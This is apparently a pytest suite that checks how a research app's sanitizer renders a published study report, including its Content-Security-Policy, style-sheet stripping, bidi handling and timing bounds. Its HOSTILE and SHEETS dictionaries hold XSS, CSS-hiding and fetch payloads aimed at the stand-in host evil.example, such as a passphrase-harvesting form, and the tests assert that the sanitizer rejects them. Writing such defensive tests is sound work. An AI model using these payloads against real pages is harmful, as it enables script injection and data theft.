"""The published report is one click away for those who took part, and can do nothing but be read."""

from __future__ import annotations

import contextlib
import re
import time
import zipfile
from pathlib import Path

import pytest

from anon.errors import Malformed
from anon.text.report_sheet import SHEET
from anon.transparency.documents import SignedHead
from peer import published_report
from peer.published_report import _TOKEN, DEEPEST, KEPT, LONGEST, LONGEST_TEXT, MOST_TAGS, POLICY, as_page
from peer.rules.lifecycle import LAST, State
from peer.rules.results import Results, results_of
from tests.support.clock import START
from tests.support.fake_aggregator import FakeAggregator, advance, until_closed
from tests.support.tries import every
from tests.support.visiting import Got, Visited

REPORT = b"""<!doctype html><html lang="en"><head><title>x</title><style>.bar { fill: #3a6ea5; }</style></head><body>
<h1>Sleep</h1><p class="lead">We found <strong>nothing</strong> &amp; say so.</p>
<svg viewBox="0 0 10 4"><rect class="bar" width="7" height="4"/></svg>
<table><tr><td>1</td></tr></table></body></html>"""
HOSTILE = {
    "script": b"<script>fetch('http://evil.example')</script>",
    "onload": b'<svg onload="alert(1)"><rect/></svg>',
    "link": b'<link rel="preconnect" href="http://evil.example"><base href="http://evil.example">',
    "refresh": b'<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "anchor": b'<a href="http://evil.example" ping="http://evil.example">your packet</a>',
    "image": (
        b'<img src="http://evil.example"><svg><image href="http://evil.example"/><use '
        b'href="http://evil.example"/></svg>'
    ),
    "form": b'<form action="http://evil.example"><input name="passphrase"><button>Go</button></form>',
    "style attribute": b'<p style="background: url(http://evil.example)" onclick="x()">text</p>',
    "colour": b'<svg><rect fill="url(http://evil.example#a)"/></svg>',
    "escaped colour": b'<svg><rect fill="\\75rl(http://evil.example#a)"/></svg>',
    "computed size": b'<svg><text font-size="calc(99px)">x</text></svg>',
    "a variable for a colour": b'<svg><rect stroke="var(--a)"/></svg>',
    "a second size": b'<svg><text font-size="9; position: fixed">x</text></svg>',
    "frame": (
        b'<iframe srcdoc="<script>1</script>" src="http://evil.example"></iframe><object data="http://evil.example">'
    ),
    "hidden in a title": b"<title></title><script>evil.example</script>",
    "hidden in a comment": b"<!-- --!><script>evil.example</script> -->",
    "hidden in a section": b"<svg><![CDATA[<script>evil.example</script>]]></svg>",
    "not closed": b"<p><script src='http://evil.example'",
}


async def _finished(page: Visited) -> None:
    page.server.site.invites[page.aggregator.study] = page.aggregator.invite
    await page.submit(page.invite, page.invite, answer="yes")
    page.aggregator.clock.seconds = float(page.aggregator.manifest.timetable.ends) + 1


async def _read(page: Visited) -> Got:
    got = await page.submit(page.study, page.study + "/report")
    return await page.get(got.url) if got.status == 200 else got


async def test_the_report_is_one_click_away_once_the_study_has_ended(page: Visited) -> None:
    assert page.aggregator.clock() == START
    await _finished(page)
    page.aggregator.publish("report", REPORT)
    before = len(page.aggregator.gets)
    assert "Read the report" in (await page.get(page.study)).words and len(page.aggregator.gets) == before
    front = (await page.get("/")).words
    assert front.index("Sleep and coffee") < front.index("The report is here") < front.index("Join a study")
    got = await _read(page)
    assert "We found nothing & say so." in got.words and '<rect class="bar" width="7" height="4">' in got.text
    assert "as staff published it" in got.words and got.text.count("<title>") == 1 and ".bar { fill" in got.text
    assert (
        got.headers["Content-Security-Policy"] == POLICY
        and "sandbox" in POLICY
        and page.aggregator.sent("packets") == []
    )


async def test_before_a_report_is_published_it_says_so(page: Visited) -> None:
    assert "Read the report" not in (await page.get("/")).words
    await _finished(page)
    got = await _read(page)
    assert got.status == 400 and "No report is published yet" in got.words
    assert (await page.get(page.study + "/report")).url.endswith(page.study), "nothing is fetched by looking"


async def test_the_page_holds_a_report_to_the_story_that_was_told_before(page: Visited) -> None:
    await _finished(page)
    page.aggregator.publish("report", REPORT)
    assert (await _read(page)).status == 200
    del page.aggregator.chain[1:], page.aggregator.bodies[1:]
    page.aggregator.publish("report", REPORT.replace(b"nothing", b"everything"))
    got = await _read(page)
    assert (
        got.status in {400, 409} and "two different documents number 1" in got.words and len(page.peer.evidence()) == 1
    )


async def test_who_stops_sending_is_offered_nothing_that_is_not_there_yet(page: Visited) -> None:
    """Over for one member is not over: the others still answer, and nothing is published before they have."""
    manifest = page.aggregator.manifest
    await page.peer.join(page.aggregator.invite, manifest.epsilon)
    await until_closed(page.peer, page.aggregator)
    await advance(page.peer, page.aggregator, manifest.surveys[-1].window.closes)
    await page.peer.leave(page.aggregator.study)
    (status,) = page.peer.status()
    words = (await page.get(page.study)).words
    assert status.state in LAST and "Read the report" not in words and "Prediction for me" not in words
    assert "When the study has ended, its report and its model are published" in words
    page.aggregator.clock.seconds = float(manifest.timetable.ends)
    words = (await page.get(page.study)).words
    assert "Read the report" in words and "Prediction for me" in words


async def test_a_study_with_too_few_members_never_offers_a_report(page: Visited) -> None:
    await page.peer.join(page.aggregator.invite, page.aggregator.manifest.epsilon)
    page.aggregator.abandon()
    await advance(page.peer, page.aggregator, page.aggregator.manifest.timetable.ends + 1)
    (status,) = page.peer.status()
    words = (await page.get(page.study)).words
    assert status.state is State.ABANDONED and "There is no report and no model of this study" in words
    assert "Read the report" not in words and "Prediction for me" not in words


def _heads(aggregator: FakeAggregator, *kinds: str) -> list[SignedHead]:
    for kind in kinds:
        aggregator.publish(kind, b"x")
    return aggregator.chain


@pytest.mark.parametrize(("kinds", "state", "after", "report", "model"), [
    ((), State.SENT, -1, Results.LATER, Results.LATER),
    ((), State.FINISHED, -1, Results.LATER, Results.LATER),
    ((), State.WITHDRAWN, -1, Results.LATER, Results.LATER),
    (("model",), State.FINISHED, -1, Results.LATER, Results.OUT),
    (("model", "report"), State.SENT, -1, Results.OUT, Results.OUT),
    ((), State.FINISHED, 0, Results.OUT, Results.OUT),
    ((), State.ABANDONED, 1, Results.NEVER, Results.NEVER),
    (("abandoned",), State.WITHDRAWN, 1, Results.NEVER, Results.NEVER),
    (("unsummed",), State.SENT, 1, Results.NEVER, Results.NEVER),
])
def test_results_are_offered_by_what_was_published(
    kinds: tuple[str, ...], state: State, after: int, report: Results, model: Results
) -> None:
    aggregator = FakeAggregator.with_study()
    manifest, chain = aggregator.manifest, _heads(aggregator, *kinds)
    now = manifest.timetable.ends + after
    assert (results_of("report", manifest, chain, state, now), results_of("model", manifest, chain, state, now)) == (
        report,
        model,
    )


def _whole(body: bytes) -> bytes:
    return b"<!doctype html>\n<html><head><title>x</title></head><body><main>" + body + b"</main></body></html>\n"


def _shown(body: bytes) -> str:
    return as_page(body, "t", "above").decode()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_report_that_could_run_or_fetch_or_lead_away_is_not_shown(name: str) -> None:
    for body in (HOSTILE[name], _whole(b"<p>before</p>" + HOSTILE[name] + b"<p>after</p>")):
        with pytest.raises(Malformed, match="does not have the form that AnonML writes"):
            as_page(body, "t", "above")


SHEETS = {
    "hides": "body > p { display: none }",
    "hides by another word": "strong { visibility: hidden } p { opacity: 0; font-size: 0; color: transparent }",
    "moves": "p { position: fixed; top: -99em } main { margin-top: -99em }",
    "covers": "main { position: fixed; inset: 0; z-index: 9; background: white }",
    "clips": "p { clip-path: inset(100%); transform: scale(0) }",
    "speaks for us": "p > strong::after { content: 'Signed by AnonML.' }",
    "escaped": "p { d\\69splay: none } /* */",
    "fetches": "p { background: url(http://evil.example) }",
    "imports": '@import "http://evil.example";',
    "ends late": "p { } " + "x" * 70_000,
}
ABOVE = b'<header><p lang="en"><strong>above</strong></p></header><main>'


@pytest.mark.parametrize("name", SHEETS)
def test_no_style_sheet_of_theirs_is_shown(name: str) -> None:
    """Nothing of it: the page is, byte for byte, that of a report without one."""
    without, sheet = _whole(b"<p>text</p>"), f"<style>{SHEETS[name]}</style>".encode()
    page = as_page(without, "t", "above")
    assert page.count(b"<style>") == 1 and f"<style>{SHEET}</style>".encode() in page and ABOVE in page
    for crafted in (
        without.replace(b"</head>", sheet + b"</head>"),
        without.replace(b"<p>", sheet + b"<p>"),
        without.replace(b"</p>", sheet + b"</p>"),
    ):
        assert as_page(crafted, "t", "above") == page


def test_our_own_sheet_neither_hides_nor_moves_nor_covers_what_is_above() -> None:
    """It places nothing, says nothing but the number of a printed page, and fetches nothing."""
    said = [
        word
        for word in (
            "position", "display: none", "visibility: hidden", "opacity", "z-index", "transform", "float", "url",
            "@import", "margin: -", "margin-top: -",
        )
        if word in SHEET
    ]
    assert said == [] and SHEET.count("content:") == 1 and "content: counter(page)" in SHEET


def test_a_report_cannot_hide_or_reorder_text() -> None:
    assert "&lt;U+202E&gt;" in as_page(_whole("<p>\u202eabc</p>".encode()), "t\u202e", "above").decode()
    assert 'class="&lt;U+202E&gt;"' in _shown(_whole('<p class="\u202e">abc</p>'.encode()))


def test_reports_of_earlier_studies_are_shown() -> None:
    with zipfile.ZipFile(GOLDEN) as studies:
        reports = [studies.read(name) for name in studies.namelist() if name.endswith("/report.html")]
    assert len(reports) >= 4
    for report in reports:
        assert (
            "<h2>Threats: what this does not protect against</h2>" in _shown(report)
            and "<svg viewBox=" in _shown(report)
        )


def test_what_is_written_is_ours_alone() -> None:
    text = _shown(
        _whole(
            b'<p class="a&#34;b" tabindex="0">1 &lt; 2 &amp; &quot;3&#34;</p><svg><title>no</title><rect x="1"/></svg>'
        )
    )
    assert '<p class="a&quot;b" tabindex="0">1 &lt; 2 &amp; &quot;3&quot;</p><svg><rect x="1"></rect></svg>' in text
    tags = {re.split(r"[ >]", tag)[0] for tag in re.findall(r"<[a-z][^>]*>", text)}
    ours = {"<html", "<head", "<meta", "<title", "<style", "<body", "<header", "<main", "<p", "<strong"}
    assert tags == ours | {"<svg", "<rect"}
    assert KEPT in text and text.endswith("</main></body></html>")


def test_text_from_right_to_left_is_kept_in_one_piece() -> None:
    assert "\u2068\u05d0&quot;\u05d1\u2069</p>" in _shown(_whole("<p>\u05d0&#34;\u05d1</p>".encode()))


GOLDEN = Path(__file__).parents[2] / "golden" / "studies.zip"
STRANGE = {
    "nothing": b"",
    "no text": b"\xff\xfe\x00",
    "another beginning": b"<html><body></body></html>",
    "a section": b"<![<![",
    "a declaration": b"<!doctype html><!DOCTYPE [",
    "not UTF-8": _whole(b"\xff"),
    "not closed": b"<!doctype html><p>",
    "closed twice": b"<!doctype html><p></p></p>",
    "closed crosswise": b"<!doctype html><p><b></p></b>",
    "an unknown element": _whole(b"<p2></p2>"),
    "an unknown attribute": _whole(b'<p id="x"></p>'),
    "an order of focus": _whole(b'<p tabindex="1"></p>'),
    "an unknown entity": _whole(b"&rlm;"),
    "a number for a character": _whole(b"&#8238;"),
    "a number of many digits": _whole(b"&#" + b"9" * 5000 + b";"),
    "a quote left open": _whole(b'<p class="x></p>'),
    "too deep": _whole(b"<p>" * DEEPEST + b"</p>" * DEEPEST),
    "too much text": _whole(b"x" * (LONGEST_TEXT + 1)),
    "too many attributes": _whole(b"<p" + b' x="1"' * 17 + b"></p>"),
    "too many tags": _whole(b"<br>" * MOST_TAGS),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", STRANGE)
def test_bytes_of_any_other_form_are_told_and_not_shown(name: str) -> None:
    with pytest.raises(Malformed, match="does not have the form"):
        as_page(STRANGE[name], "t", "above")


@pytest.mark.slow
def test_up_to_its_bounds_a_report_is_shown() -> None:
    for body in (b"<p>" * (DEEPEST - 3) + b"</p>" * (DEEPEST - 3), b"x" * LONGEST_TEXT, b"<br>" * (MOST_TAGS - 10)):
        assert _shown(_whole(body)).endswith("</main></body></html>")


def test_a_report_that_is_too_long_is_not_even_looked_at() -> None:
    with pytest.raises(Malformed, match="longer than 4 MiB"):
        as_page(_whole(b"").ljust(LONGEST + 1, b"\n"), "t", "above")
    assert as_page(_whole(b"").ljust(2**17, b"\n"), "t", "above")


async def test_a_report_that_is_not_shown_says_why_on_the_page(page: Visited) -> None:
    await _finished(page)
    page.aggregator.publish("report", b"<![<![")
    got = await _read(page)
    assert got.status == 400 and "does not have the form that AnonML writes" in got.words


# --- long texts that were slow ---

PIECES = {
    "links": b"<a ", "sections": b"<![<![", "signs": b"<", "begun": b"<p>", "empty": b"<p></p>", "breaks": b"<br>",
    "ends": b"</p>", "entities": b"&#34;", "ampersands": b"&", "letters": b"x", "quotes": b'<p class="',
    "comments": b"<!--", "sheets": b"<style>p{}</style>", "titles": b"<title>x</title>", "drawn": b'<rect fill="u"/>',
    "no text": b"\xff", "lines": b"\n", "Chinese": "\u6f22".encode(), "marks": "a\u0301".encode(),
    "Hebrew": "\u05d0&#34;".encode() * 20_000 + b"<br>",
    "long attributes": b'<p class="' + b"x" * 65_000 + b'"></p>',
    "attributes": b"<br" + b' x=""' * 16 + b">",
    "hidden": b'<p dir="' + "\u202e".encode() * 20_000 + b'"></p>',
}  # fmt: skip


def _of_pieces(name: str, length: int) -> bytes:
    begins = b"<!doctype html>"
    return begins + PIECES[name] * ((length - len(begins)) // len(PIECES[name]))


@pytest.mark.slow
@pytest.mark.parametrize("name", PIECES)
def test_no_long_text_takes_long(name: str) -> None:
    """In seconds of this thread's processor: a loaded machine changes nothing. The slowest take 1.8."""
    for length in (LONGEST, 64 * 2**20):
        body, began = _of_pieces(name, length), time.thread_time()
        with contextlib.suppress(Malformed):
            assert as_page(body, "t", "above")
        assert time.thread_time() - began < 5.0


@pytest.mark.parametrize("name", every(3, PIECES))
def test_each_step_of_a_long_text_is_short(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A match is not interrupted, so it takes at most as many characters as 5 ms allow: 2**21."""
    longest = 0

    class Noting:
        def match(self, text: str, place: int) -> re.Match[str] | None:
            nonlocal longest
            found = _TOKEN.match(text, place)
            longest = max(longest, found.end() - place if found else 0)
            return found

    monkeypatch.setattr(published_report, "_TOKEN", Noting())
    with contextlib.suppress(Malformed):
        as_page(_of_pieces(name, 2**19), "t", "above")
    assert longest < 2**17
